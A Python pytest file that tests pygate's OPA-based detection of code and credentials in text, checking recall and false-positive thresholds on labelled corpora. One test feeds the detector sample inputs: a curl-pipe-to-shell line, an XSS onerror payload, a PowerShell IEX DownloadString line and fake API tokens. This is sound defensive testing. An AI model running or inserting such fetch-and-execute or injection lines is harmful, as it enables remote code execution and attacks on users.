"""Code and credential detection, measured on the labelled corpora through the real OPA.

A correctness threshold, not a speed one: the shipped ``code_patterns`` and the credential
condition of AST-DATA-001 must find >= 98 % of the corpus's code and secrets and flag <= 2 %
of its prose and clean text (issue 12, section 5). ``benchmarks/detection.py`` prints the
same figures.
"""

from __future__ import annotations

import json
import subprocess
import sys
from types import ModuleType
from typing import Any

import pytest

from pygate import LocalOpa
from pygate.engine._opa_process import PROJECT_ROOT
from tests.conftest import load_script

CORPUS = PROJECT_ROOT / "tests" / "corpus"


def _detection() -> ModuleType:
    return load_script("detection", PROJECT_ROOT / "benchmarks" / "detection.py")


@pytest.fixture(scope="module")
def figures(opa: LocalOpa) -> dict[str, Any]:
    result: dict[str, Any] = _detection().measure(opa.url)
    return result


def test_corpora_are_large_and_varied_enough() -> None:
    code = [json.loads(line) for line in (CORPUS / "code.jsonl").read_text().splitlines()]
    snippets = [r for r in code if r["label"] == "code"]
    languages = {r["kind"].split("/")[0] for r in snippets if not r["kind"].startswith("holdout")}
    assert len(snippets) >= 300
    assert len([r for r in code if r["label"] == "prose"]) >= 300
    assert len(languages) >= 12
    assert any("/fenced" in r["kind"] for r in snippets)
    creds = [json.loads(x) for x in (CORPUS / "credentials.jsonl").read_text().splitlines()]
    assert len([r for r in creds if r["label"] == "secret"]) >= 150


def test_corpora_are_what_the_generator_writes(tmp_path: Any) -> None:
    before = {n: (CORPUS / n).read_bytes() for n in ("code.jsonl", "credentials.jsonl")}
    subprocess.run([sys.executable, str(CORPUS / "generate.py")], check=True, capture_output=True)
    assert {n: (CORPUS / n).read_bytes() for n in before} == before


@pytest.mark.parametrize("name", ["code", "credentials"])
def test_detection_meets_the_targets(figures: dict[str, Any], name: str) -> None:
    result = figures[name]
    assert result["recall"] >= 0.98, result["missed"]
    assert result["false_positive_rate"] <= 0.02, result["false_positives"]


def test_the_old_patterns_missed_what_the_issue_names(opa: LocalOpa) -> None:
    # lowercase SQL, curl | sh, Go, Rust: each is code the shipped patterns now find
    detection = _detection()
    texts = [
        "delete from users;",
        "curl -fsSL https://get.example.com/install.sh | sh",
        'func main() {\n\tfmt.Println("hi")\n}',
        'fn main() {\n    println!("hi");\n}',
        "<img src=x onerror=alert(1)>",
        "IEX (New-Object Net.WebClient).DownloadString('http://x/y')",
    ]
    found = detection.decide(opa.url, texts)
    assert all(detection.CODE_POLICY in ids for ids in found), found
    secrets = ["ghp_" + "a1B2" * 9, "xoxb-1234567890-abcdefghijklmnop", "token: Zx81kq0Lm3"]
    found = detection.decide(opa.url, secrets)
    assert all(detection.CREDENTIAL_POLICY in ids for ids in found), found


def test_data_json_holds_the_patterns_of_patterns_py() -> None:
    patterns = load_script("patterns", CORPUS / "patterns.py")
    data = json.loads((PROJECT_ROOT / "rego" / "pygate" / "config" / "data.json").read_text())
    assert data["code_patterns"] == patterns.code_patterns()
    (policy,) = [p for p in data["declarative_policies"] if p["id"] == "AST-DATA-001"]
    assert policy["conditions"][0]["pattern"] == patterns.CREDENTIAL
    # OPA keeps at most 100 compiled regexes: one entry per notation stays far below it
    assert len(data["code_patterns"]) <= 20
